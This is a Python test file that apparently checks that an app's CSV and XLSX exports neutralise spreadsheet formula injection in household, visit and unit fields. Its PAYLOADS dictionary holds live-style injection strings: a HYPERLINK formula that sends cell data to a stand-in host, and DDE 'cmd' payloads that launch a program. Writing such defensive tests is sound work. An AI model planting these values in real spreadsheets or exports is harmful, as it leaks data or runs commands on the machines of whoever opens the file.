"""Spreadsheet formula injection: no exported text cell starts a formula (docs/exports.md).

Every free text that reaches a spreadsheet export is given a value starting with each of
``= + - @``, a tab and a carriage return: household addresses, head names and phones (a
phone may start with + or -), visit notes, review comments, and unit names (from the units
import). Then every cell of every CSV (comma and semicolon, English and Vietnamese headers,
the report layout) and every XLSX export, as the admin (phones unmasked) and as the ward's
supervisor, is scanned: a text cell may begin with one of those characters only after the
``'`` that neutralises it. tests/api/test_exports.py checks the exact values of a few
columns; this walks every cell, so a new column of free text cannot slip through.

How the defences were checked: with the SQL guard every CSV and XLSX export goes through
(``store.exports._guarded``) made to return its text unchanged, every test here fails on
both databases.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.api.sync_helpers import WARD_A, Tablet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "=": '=HYPERLINK("http://x.example/?"&A1,"bấm")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
PHONES = ["+84 912 345 678", "-(0)912.345.678", "+(84)-912"]
EXPORTS = [
    "units.csv",
    "visits.csv",
    "households.csv",
    "units.xlsx",
    "visits.xlsx",
    "households.xlsx",
]
CSV_VARIANTS = ["", "&sep=semicolon", "&lang=vi", "&bom=0&sep=semicolon&lang=vi"]


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def dangerous_cells(data: bytes, name: str, sep: str) -> list[Any]:
    """Every cell of the file that a spreadsheet would read as a formula."""
    if name.endswith(".csv"):
        text = data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
        return [
            cell
            for row in rows
            for cell in row
            if cell and cell[0] in TRIGGERS and not is_number(cell)
        ]
    book = load_workbook(io.BytesIO(data), read_only=True)
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        # XML reads a carriage return back as a line feed.
        if isinstance(cell, str) and cell and cell[0] in (*TRIGGERS, "\n")
    ]


@pytest.fixture
def tricky(world, client, runner, tmp_path: Path) -> list[str]:
    """Every free text of ward A starting with each trigger; what was written."""
    written = []
    lines = ["scheme,code,name,level,parent_code,adult_population,target_rate"]
    lines.append(f'gso-2020,12019,"{PAYLOADS["="].replace(chr(34), chr(34) * 2)}",ward,326,9000,')
    for i, start in enumerate("+-@"):
        lines.append(f"gso-2020,12019-9{i},{PAYLOADS[start]},group,12019,,")
    path = tmp_path / "units.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = runner.invoke(args=["units", "import", str(path)])
    assert result.exit_code == 0, result.output
    tablet = Tablet(world, client, "cv.vg.001")
    mutations = []
    for i, (start, text) in enumerate(PAYLOADS.items()):
        household = tablet.household(
            address=f"{text} số {i}" if start not in "\t\r" else f"{start}Số {i}",
            head_name=text,
            phone=PHONES[i % len(PHONES)],
            group=f"gso-2020:12019-9{i}" if i < 3 else None,  # the groups named above
        )
        visit = tablet.visit(household["id"], notes=text)
        mutations += [household, visit]
        written += [text]
    body = tablet.push(mutations)
    assert all(r["status"] == "applied" for r in body["results"]), body
    supervisor = world.headers(client, "sv.vangiang")
    for i, text in enumerate(PAYLOADS.values()):
        visit_id = mutations[2 * i + 1]["id"]
        response = client.post(
            f"/api/v1/visits/{visit_id}/review",
            json={"action": "reject", "comment": text},
            headers=supervisor,
        )
        assert response.status_code == 200, response.get_json()
    return written


@pytest.mark.parametrize("username", ["admin", "sv.vangiang"])
def test_no_exported_cell_starts_a_formula(world, client, tricky, username):
    headers = world.headers(client, username)
    checked = 0
    for name in EXPORTS:
        variants = CSV_VARIANTS if name.endswith(".csv") else ["", "&lang=vi"]
        if name.startswith("units"):
            variants = [*variants, "&layout=report"]
        for variant in variants:
            response = client.get(f"/api/v1/exports/{name}?unit={WARD_A}{variant}", headers=headers)
            assert response.status_code == 200, (name, variant, response.get_data()[:300])
            sep = ";" if "semicolon" in variant else ","
            assert dangerous_cells(response.data, name, sep) == [], (name, variant)
            checked += 1
    assert checked == 20


def test_the_texts_are_there_neutralised_not_dropped(world, client, tricky):
    # The guard keeps the text: the apostrophe in front is all that changes.
    headers = world.headers(client, "admin")
    visits = client.get(f"/api/v1/exports/visits.csv?unit={WARD_A}", headers=headers).data
    cells = {
        c for row in csv.reader(io.StringIO(visits.decode("utf-8-sig"), newline="")) for c in row
    }
    for text in tricky:
        assert "'" + text in cells, repr(text)
    households = client.get(f"/api/v1/exports/households.csv?unit={WARD_A}", headers=headers)
    text = households.data.decode("utf-8-sig")
    for phone in PHONES:
        assert "'" + phone in text, phone
    units = client.get(f"/api/v1/exports/units.csv?unit={WARD_A}", headers=headers).data
    assert "'" + PAYLOADS["="] in units.decode("utf-8-sig").replace('""', '"')
